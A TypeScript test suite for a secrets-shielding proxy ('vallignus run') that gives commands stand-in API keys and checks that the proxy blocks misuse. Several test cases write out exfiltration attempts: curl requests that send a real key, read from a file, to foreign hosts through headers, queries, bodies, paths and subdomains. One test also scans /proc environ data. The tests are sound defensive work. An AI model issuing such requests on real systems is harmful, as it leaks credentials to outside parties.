// Secrets the agent never holds (issue 13), end to end through the built `vallignus run`: the
// authority keeps the values, the command gets stand-ins, the proxy swaps them on the way to
// the secret's own hosts and denies every other use. Real clients (the official SDKs, curl,
// python3) against fakes that speak the providers' wire formats; after every test, no value
// may be in any file of the home but its own, nor in anything any command printed.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, afterEach, before, describe, test } from "node:test";

import { errorCode } from "./helpers/cli.js";
import { waitFor } from "./helpers/processes.js";
import {
  PROBE,
  secretValue,
  secretsHarness,
  type ProbeCase,
  type ProbeResult,
  type RunOptions,
  type SecretsHarness,
} from "./helpers/secret-harness.js";

const INSPECTED = "inspect.test";
const GITHUB = "api.github.test";

let s: SecretsHarness;
/** Every value each secret has had; the last one is its value now. */
const values = new Map<string, string[]>();
/** The main policy's token: its runs get OPENAI_API_KEY, ANTHROPIC_API_KEY and GITHUB_TOKEN. */
let token = "";

const now = (name: string): string => values.get(name)?.at(-1) ?? assert.fail(`no ${name}`);

function setSecret(name: string, value: string, flags: readonly string[]): void {
  const r = s.withValue(["auth", "set-secret", "--name", name, ...flags], value);
  assert.equal(r.status, 0, r.stderr);
  values.set(name, [value]);
}

/** A file in the working folder holding a value, as an agent might find one lying around. */
function foundFile(name: string): string {
  const file = join(s.h.root, `found-${name}.txt`);
  writeFileSync(file, now(name));
  chmodSync(file, 0o644);
  return file;
}

before(async () => {
  s = await secretsHarness("vallignus-secrets-", [INSPECTED, GITHUB]);
  const hp = s.hostPorts;
  // The LLM keys' placement is inferred from their hosts; GitHub's is given.
  setSecret("OPENAI_API_KEY", secretValue("sk-proj-", 48), ["--hosts", hp["api.openai.com"] ?? ""]);
  setSecret("ANTHROPIC_API_KEY", secretValue("sk-ant-api03-", 60), [
    "--hosts",
    hp["api.anthropic.com"] ?? "",
  ]);
  setSecret("GITHUB_TOKEN", secretValue("ghp_", 36), [
    ...["--hosts", hp[GITHUB] ?? "", "--header", "authorization"],
    ...["--template", "token {secret}"],
  ]);
  // Held by the authority, named by no policy: its value is still never let out.
  setSecret("UNUSED_KEY", secretValue("xk_", 30), [
    ...["--hosts", hp["plain.test"] ?? "", "--header", "x-unused"],
  ]);
  token = s.policy("sec", [
    ...["--secrets", "OPENAI_API_KEY,ANTHROPIC_API_KEY,GITHUB_TOKEN"],
    ...["--inspect-hosts", `${hp[INSPECTED] ?? ""},${hp[GITHUB] ?? ""}`],
  ]);
});

after(() => s.close());

/** Leaks already reported, by value and place: a value in the audit log stays, and fails once. */
const reported = new Set<string>();

afterEach(() => {
  const leaks: string[] = [];
  for (const [name, history] of values) {
    for (const [i, value] of history.entries()) {
      const which = i === history.length - 1 ? name : `${name} (an old value)`;
      const places = s
        .filesHolding(value)
        .filter((file) => which !== name || file !== `secrets/${name}.json`);
      const lower = value.toLowerCase();
      if (s.outputs.some((text) => text.toLowerCase().includes(lower)))
        places.push("a command's output");
      for (const place of places) {
        if (reported.has(`${value} ${place}`)) continue;
        reported.add(`${value} ${place}`);
        leaks.push(`${which} in ${place}`);
      }
    }
  }
  s.outputs.length = 0;
  assert.deepEqual(leaks, [], "no secret value in the home's files (but its own) or any output");
});

const url = (host: string, path: string) =>
  `${host === "plain.test" ? "http" : "https"}://${s.hostPorts[host] ?? host}${path}`;

const CHAT = JSON.stringify({
  model: "fake-gpt",
  max_tokens: 100,
  messages: [{ role: "user", content: "hi" }],
});
const MESSAGES = JSON.stringify({
  model: "fake-claude",
  max_tokens: 100,
  messages: [{ role: "user", content: "hi" }],
});

function curl(name: string, ...args: string[]): ProbeCase {
  return { name, kind: "curl", args };
}

/** The deny JSON's reason, or the status and body when the answer was not a deny. */
function reasonOf(result: ProbeResult | undefined): string {
  if (result?.status !== 403) return `status ${String(result?.status)}: ${String(result?.body)}`;
  return String((JSON.parse(result.body) as { deny_reason?: string }).deny_reason);
}

/** The audit line of the one decision on a path starting with `path`. */
function auditFor(path: string): Record<string, unknown> {
  const lines = s.h.auditLines().filter((l) => String(l["path"]).startsWith(path));
  assert.equal(lines.length, 1, `one audit line for ${path}`);
  return lines[0] ?? {};
}

/** The lines `NAME=value` of an `env` listing, as a map. */
function envOf(text: string): Map<string, string> {
  return new Map(
    text
      .split("\n")
      .filter((line) => /^[A-Za-z_][A-Za-z0-9_]*=/.test(line))
      .map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)]),
  );
}

test("set-secret takes the value on stdin; list-secrets shows its fingerprint, never the value", () => {
  const r = s.cli(["auth", "list-secrets", "--json"]);
  assert.equal(r.status, 0, r.stderr);
  const listed = JSON.parse(r.stdout) as { name: string; fingerprint: string; hosts: string[] }[];
  for (const name of ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GITHUB_TOKEN", "UNUSED_KEY"]) {
    const entry = listed.find((e) => e.name === name);
    assert.ok(entry, `${name} is listed`);
    const sha = createHash("sha256").update(now(name)).digest("hex");
    assert.equal(entry.fingerprint, sha.slice(0, 8));
  }
  const dir = join(s.h.home, "secrets");
  assert.equal(statSync(dir).mode & 0o777, 0o700);
  for (const file of readdirSync(dir)) assert.equal(statSync(join(dir, file)).mode & 0o777, 0o600);
});

/** A request the probe makes with curl, the secret its denial must name, its audit path. */
interface Denial {
  readonly secret: string;
  readonly auditPath: string;
  readonly probe: ProbeCase;
}

function denial(secret: string, auditPath: string, ...args: string[]): Denial {
  return { secret, auditPath, probe: curl(auditPath, ...args) };
}

/**
 * Runs the probe on `cases`: each must get a 403 with `reason`, one audit line naming its
 * secret, and no origin or provider may receive anything meanwhile.
 */
async function expectDenials(
  cases: readonly Denial[],
  reason: string,
  options: RunOptions,
): Promise<void> {
  const hits = s.origins.hits.length;
  const received = s.h.fake.received.length;
  const { result, out } = await s.probe(
    token,
    cases.map((c) => c.probe),
    options,
  );
  assert.equal(result.status, 0, result.stderr);
  for (const c of cases) {
    assert.equal(reasonOf(out[c.probe.name]), reason, c.auditPath);
    const line = auditFor(c.auditPath);
    assert.equal(line["decision"], "deny", c.auditPath);
    assert.equal(line["deny_reason"], reason, c.auditPath);
    assert.equal(line["secret"], c.secret, c.auditPath);
  }
  assert.deepEqual(s.origins.hits.slice(hits), [], "the origins received nothing");
  assert.equal(s.h.fake.received.length, received, "the providers received nothing");
}

/** Every test of a run, with and without --isolate. */
function runTests(isolate: boolean): void {
  const options: RunOptions = { isolate };

  test("the SDKs, curl and python3 send stand-ins; the providers get the real keys; spend shows the cost", async () => {
    const t = s.policy(`sdk-${String(isolate)}`, [
      ...["--secrets", "OPENAI_API_KEY,ANTHROPIC_API_KEY"],
    ]);
    const before = s.h.fake.received.length;
    const cases: ProbeCase[] = [
      { name: "openai-sdk", kind: "openai", baseURL: url("api.openai.com", "/v1") },
      { name: "anthropic-sdk", kind: "anthropic", baseURL: url("api.anthropic.com", "") },
      curl(
        "openai-curl",
        ...["-H", "authorization: Bearer {env:OPENAI_API_KEY}"],
        ...["-H", "content-type: application/json", "-d", CHAT],
        url("api.openai.com", "/v1/chat/completions"),
      ),
      curl(
        "anthropic-curl",
        ...["-H", "x-api-key: {env:ANTHROPIC_API_KEY}", "-H", "anthropic-version: 2023-06-01"],
        ...["-H", "content-type: application/json", "-d", MESSAGES],
        url("api.anthropic.com", "/v1/messages"),
      ),
    ];
    // python3 lives under /root/.pyenv here, which the isolated command's uid cannot read.
    if (!isolate)
      cases.push({
        name: "openai-python",
        kind: "python",
        url: url("api.openai.com", "/v1/chat/completions"),
        headers: {
          Authorization: "Bearer {env:OPENAI_API_KEY}",
          "Content-Type": "application/json",
        },
        body: CHAT,
      });
    const { result, out } = await s.probe(t, cases, options);
    assert.equal(result.status, 0, result.stderr);
    for (const c of cases) assert.equal(out[c.name]?.status, 200, JSON.stringify(out[c.name]));
    assert.equal(out["openai-sdk"]?.body, "hello from fake openai");
    assert.equal(out["anthropic-sdk"]?.body, "hello from fake anthropic");
    const got = s.h.fake.received.slice(before);
    assert.equal(got.length, cases.length);
    for (const r of got) {
      if (r.path.startsWith("/v1/chat/completions")) {
        assert.equal(r.headers.authorization, `Bearer ${now("OPENAI_API_KEY")}`);
        continue;
      }
      // Anthropic's SDK sends its key as Authorization: Bearer, curl here as x-api-key.
      const key = now("ANTHROPIC_API_KEY");
      const sent = [r.headers["x-api-key"], r.headers.authorization?.replace(/^Bearer /, "")];
      assert.deepEqual(
        sent.filter((k) => k !== undefined),
        [key],
        "the one key header the client sent carries the real key",
      );
    }
    const metered = s.h
      .auditLines()
      .filter((l) => l["policy_id"] === `sdk-${String(isolate)}` && l["provider"] !== undefined);
    assert.equal(metered.length, cases.length);
    for (const line of metered) {
      assert.equal(line["decision"], "allow");
      const name = line["provider"] === "openai" ? "OPENAI_API_KEY" : "ANTHROPIC_API_KEY";
      assert.equal(line["secret"], name);
    }
    const spend = JSON.parse(s.cli(["spend", "--json"]).stdout) as {
      policy_id: string;
      spent_usd: string;
      calls: number;
    }[];
    const mine = spend.find((l) => l.policy_id === `sdk-${String(isolate)}`);
    // OpenAI: 12 × $1/M + 30 × $2/M = $0.000072; Anthropic: 12 × $3/M + 30 × $15/M = $0.000486.
    const openaiCalls = isolate ? 2 : 3;
    assert.equal(mine?.calls, cases.length);
    assert.equal(mine.spent_usd, ((openaiCalls * 72 + 2 * 486) / 1e6).toFixed(6));
  });

  test("the command's environment holds stand-ins of the values' shape, new each run; inherited copies are gone", async () => {
    const env = {
      OPENAI_API_KEY: now("OPENAI_API_KEY"),
      COPY_OF_KEY: `x${now("OPENAI_API_KEY")}y`,
      UNUSED_KEY: now("UNUSED_KEY"),
      KEEP_ME: "kept",
    };
    const show = ["sh", "-c", "env; echo ---; sh -c env"];
    const first = await s.run(token, show, { ...options, env });
    assert.equal(first.status, 0, first.stderr);
    const [own = "", grandchild = ""] = first.stdout.split("---\n");
    const second = envOf((await s.run(token, ["env"], options)).stdout);
    for (const listing of [own, grandchild]) {
      const seen = envOf(listing);
      assert.equal(seen.get("KEEP_ME"), "kept");
      assert.equal(seen.has("UNUSED_KEY"), false, "another secret's value is dropped");
      for (const [name, prefix] of [
        ["OPENAI_API_KEY", "sk-proj-"],
        ["ANTHROPIC_API_KEY", "sk-ant-api03-"],
        ["GITHUB_TOKEN", "ghp_"],
      ] as const) {
        const standIn = seen.get(name) ?? "";
        const value = now(name);
        assert.ok(standIn.startsWith(prefix), `${name}'s stand-in keeps ${prefix}: ${standIn}`);
        assert.equal(standIn.length, value.length, `${name}'s stand-in has the value's length`);
        assert.match(standIn.slice(prefix.length), /^[A-Za-z0-9]+$/);
        assert.notEqual(standIn, value);
        assert.notEqual(second.get(name), standIn, `${name}'s stand-in is new each run`);
      }
      const copy = seen.get("COPY_OF_KEY");
      assert.ok(
        copy === undefined || copy === `x${seen.get("OPENAI_API_KEY") ?? ""}y`,
        "a copy of a value is dropped or holds the stand-in",
      );
    }
  });

  test("/proc/<pid>/environ of the command and of its child never holds a value", async () => {
    const marker = `grandchild-${String(process.pid)}-${String(Date.now())}`;
    const ready = join(s.h.root, `${marker}.ready`);
    const go = join(s.h.root, `${marker}.go`);
    const running = s.probe(token, [{ name: "hold", kind: "hold", marker, ready, go }], options);
    try {
      await waitFor("the command and its child", () => existsSync(ready), 30_000);
      const found = readdirSync("/proc")
        .filter((p) => /^\d+$/.test(p))
        .flatMap((pid) => {
          try {
            const cmdline = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
            // The child: the probe on a cases file of this harness (other files run it too).
            const child = cmdline[1] === PROBE && (cmdline[2] ?? "").startsWith(s.h.root);
            const role = cmdline.includes(marker) ? "grandchild" : child ? "child" : undefined;
            return role === undefined
              ? []
              : [{ role, environ: readFileSync(`/proc/${pid}/environ`, "latin1") }];
          } catch {
            return [];
          }
        });
      assert.deepEqual(found.map((p) => p.role).sort(), ["child", "grandchild"]);
      for (const { role, environ } of found) {
        for (const name of values.keys())
          assert.ok(!environ.includes(now(name)), `${role}'s environ holds ${name}'s value`);
        assert.match(environ, /(^|\0)OPENAI_API_KEY=sk-proj-[A-Za-z0-9]{48}\0/);
      }
    } finally {
      writeFileSync(go, "");
    }
    const { result } = await running;
    assert.equal(result.status, 0, result.stderr);
  });

  test("a stand-in anywhere but its own place on its own hosts is denied secret_wrong_host; nothing is sent", async () => {
    const tag = isolate ? "wrong-iso" : "wrong";
    const cases: Denial[] = [];
    for (const host of ["plain.test", INSPECTED]) {
      const p = `/${tag}/${host}`;
      cases.push(
        denial(
          "OPENAI_API_KEY",
          `${p}/header`,
          "-H",
          "x-key: {env:OPENAI_API_KEY}",
          url(host, `${p}/header`),
        ),
        denial("OPENAI_API_KEY", `${p}/query`, url(host, `${p}/query?k={env:OPENAI_API_KEY}`)),
        denial("GITHUB_TOKEN", `${p}/body`, "-d", "t={env:GITHUB_TOKEN}", url(host, `${p}/body`)),
        denial("OPENAI_API_KEY", `${p}/path`, url(host, `${p}/path/{env:OPENAI_API_KEY}`)),
        denial(
          "GITHUB_TOKEN",
          `${p}/authorization`,
          ...["-H", "authorization: token {env:GITHUB_TOKEN}"],
          url(host, `${p}/authorization`),
        ),
      );
    }
    cases.push(
      // Secret A's stand-in at secret B's host, where B's header goes.
      denial(
        "OPENAI_API_KEY",
        `/v1/messages?${tag}-a-at-b`,
        ...["-H", "x-api-key: {env:OPENAI_API_KEY}", "-H", "anthropic-version: 2023-06-01"],
        ...["-H", "content-type: application/json", "-d", MESSAGES],
        url("api.anthropic.com", `/v1/messages?${tag}-a-at-b=1`),
      ),
      // Its own host, but in the body as well as in its header.
      denial(
        "OPENAI_API_KEY",
        `/v1/chat/completions?${tag}-body`,
        ...["-H", "authorization: Bearer {env:OPENAI_API_KEY}"],
        ...["-H", "content-type: application/json"],
        ...["-d", CHAT.replace('"hi"', '"{env:OPENAI_API_KEY}"')],
        url("api.openai.com", `/v1/chat/completions?${tag}-body=1`),
      ),
    );
    await expectDenials(cases, "secret_wrong_host", options);
  });

  test("a real value sent anywhere is denied secret_exfiltration; nothing is sent", async () => {
    const tag = isolate ? "exfil-iso" : "exfil";
    const value = `{file:${foundFile("OPENAI_API_KEY")}}`;
    const unused = `{file:${foundFile("UNUSED_KEY")}}`;
    const cases: Denial[] = [];
    for (const host of ["plain.test", INSPECTED]) {
      const p = `/${tag}/${host}`;
      cases.push(
        denial("OPENAI_API_KEY", `${p}/header`, "-H", `x-data: ${value}`, url(host, `${p}/header`)),
        denial("OPENAI_API_KEY", `${p}/query`, url(host, `${p}/query?d=${value}`)),
        denial("OPENAI_API_KEY", `${p}/body`, "--data-binary", value, url(host, `${p}/body`)),
        denial("OPENAI_API_KEY", `${p}/basic`, "-u", `me:${value}`, url(host, `${p}/basic`)),
        denial("OPENAI_API_KEY", `${p}/path`, url(host, `${p}/path/${value}`)),
        denial("UNUSED_KEY", `${p}/unused`, "-H", `x-unused: ${unused}`, url(host, `${p}/unused`)),
      );
    }
    // Even on its own host and in its own header: a value the command holds is a leak.
    cases.push(
      denial(
        "OPENAI_API_KEY",
        `/v1/chat/completions?${tag}-own-host`,
        ...["-H", `authorization: Bearer ${value}`],
        ...["-H", "content-type: application/json", "-d", CHAT],
        url("api.openai.com", `/v1/chat/completions?${tag}-own-host=1`),
      ),
    );
    await expectDenials(cases, "secret_exfiltration", options);
  });
}

test("a value in the name or path of a request to a host the policy does not allow: denied, and no line keeps it", async () => {
  const file = foundFile("OPENAI_API_KEY");
  const hits = s.origins.hits.length;
  const { result, out } = await s.probe(token, [
    curl("path", `http://elsewhere.test:${String(s.origins.plainPort)}/upload/{file:${file}}`),
    // Lower case: a host name is compared in any case, and a key is still a key.
    curl("host", `https://{filelower:${file}}.${s.hostPorts[INSPECTED] ?? ""}/`),
  ]);
  assert.equal(result.status, 0, result.stderr);
  assert.match(reasonOf(out["path"]), /^(secret_exfiltration|domain_not_allowed)$/);
  // curl shows no body of a refused CONNECT: its audit line gives the reason.
  assert.equal(out["host"]?.status, 403, JSON.stringify(out["host"]));
  const connect = s.h
    .auditLines()
    .filter((l) => l["method"] === "CONNECT" && l["port"] === s.origins.tlsPort);
  assert.match(
    String(connect.at(-1)?.["deny_reason"]),
    /^(secret_exfiltration|domain_not_allowed)$/,
  );
  assert.deepEqual(s.origins.hits.slice(hits), [], "the origins received nothing");
  // The leak check after the test looks for the value, in any case, in the audit log.
});

describe("vallignus run", () => runTests(false));
describe("vallignus run --isolate", () => runTests(true));

test("a GitHub-style secret on an inspected host goes into its header through the template", async () => {
  const hits = s.origins.hits.length;
  const { result, out } = await s.probe(token, [
    curl("token", "-H", "authorization: token {env:GITHUB_TOKEN}", url(GITHUB, "/repos/acme/a")),
    // The template sets the whole header whenever the stand-in is in it.
    curl("bearer", "-H", "authorization: Bearer {env:GITHUB_TOKEN}", url(GITHUB, "/repos/acme/b")),
  ]);
  assert.equal(result.status, 0, result.stderr);
  assert.equal(out["token"]?.status, 200, JSON.stringify(out["token"]));
  assert.equal(out["bearer"]?.status, 200, JSON.stringify(out["bearer"]));
  const got = s.origins.hits.slice(hits);
  assert.deepEqual(
    got.map((h) => [h.host, h.url, h.headers.authorization]),
    [
      [s.hostPorts[GITHUB], "/repos/acme/a", `token ${now("GITHUB_TOKEN")}`],
      [s.hostPorts[GITHUB], "/repos/acme/b", `token ${now("GITHUB_TOKEN")}`],
    ],
  );
  for (const path of ["/repos/acme/a", "/repos/acme/b"]) {
    const line = auditFor(path);
    assert.equal(line["decision"], "allow");
    assert.equal(line["secret"], "GITHUB_TOKEN");
  }
});

test("rotating a secret while a run is live: the next request carries the new value", async () => {
  const old = now("OPENAI_API_KEY");
  const fresh = secretValue("sk-proj-", 48);
  const ready = join(s.h.root, "rotate.ready");
  const go = join(s.h.root, "rotate.go");
  const call = (name: string) =>
    curl(
      name,
      ...["-H", "authorization: Bearer {env:OPENAI_API_KEY}"],
      ...["-H", "content-type: application/json", "-d", CHAT],
      url("api.openai.com", "/v1/chat/completions"),
    );
  const before = s.h.fake.received.length;
  const running = s.probe(token, [
    call("before"),
    { name: "wait", kind: "wait", ready, go },
    call("after"),
  ]);
  try {
    await waitFor("the first call", () => existsSync(ready), 30_000);
    const r = s.withValue(["auth", "rotate-secret", "--name", "OPENAI_API_KEY"], fresh);
    assert.equal(r.status, 0, r.stderr);
    values.get("OPENAI_API_KEY")?.push(fresh);
  } finally {
    writeFileSync(go, "");
  }
  const { result, out } = await running;
  assert.equal(result.status, 0, result.stderr);
  assert.equal(out["before"]?.status, 200);
  assert.equal(out["after"]?.status, 200);
  assert.deepEqual(
    s.h.fake.received.slice(before).map((r) => r.headers.authorization),
    [`Bearer ${old}`, `Bearer ${fresh}`],
  );
});

test("a run whose policy names a secret removed since refuses to start (ERR_SECRET_NOT_FOUND)", async () => {
  setSecret("DOOMED_KEY", secretValue("dk_", 30), [
    ...["--hosts", s.hostPorts["plain.test"] ?? "", "--header", "x-doomed"],
  ]);
  const t = s.policy("doomed", ["--secrets", "DOOMED_KEY"]);
  const removed = s.cli(["auth", "remove-secret", "--name", "DOOMED_KEY"]);
  assert.equal(removed.status, 0, removed.stderr);
  const marker = join(s.h.root, "doomed-started");
  const r = await s.run(t, ["touch", marker]);
  assert.equal(r.status, 1, r.stderr);
  assert.equal(errorCode(r.stderr), "ERR_SECRET_NOT_FOUND", r.stderr);
  assert.match(r.stderr, /DOOMED_KEY/);
  assert.equal(existsSync(marker), false, "the command never started");
  // The removed value is in no file at all (checked after the test).
  assert.equal(existsSync(join(s.h.home, "secrets", "DOOMED_KEY.json")), false);
});
